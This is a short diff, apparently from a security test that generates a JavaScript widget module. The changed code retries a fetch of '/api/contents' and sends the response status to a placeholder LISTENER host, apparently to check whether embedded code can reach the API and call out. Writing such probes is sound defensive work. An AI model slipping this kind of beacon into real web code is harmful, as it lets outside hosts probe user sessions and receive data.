@@ -18,7 +18,10 @@ def tells(what: str) -> str:
 
 MODULE = f"""
 {tells("module")}
-fetch('/api/contents').then(answer => fetch('{LISTENER}/session-' + answer.status)).catch(() => 0);
+const ask = left => fetch('/api/contents').then(
+  answer => {{ fetch('{LISTENER}/session-' + answer.status).catch(() => 0); }},
+  () => {{ {tells("refused")} if (left) setTimeout(ask, 1000, left - 1); }});
+ask(9);
 export default {{
   initialize() {{ {tells("initialize")} }},
   render({{ el }}) {{ el.textContent = 'I am drawn.'; {tells("render")} }},
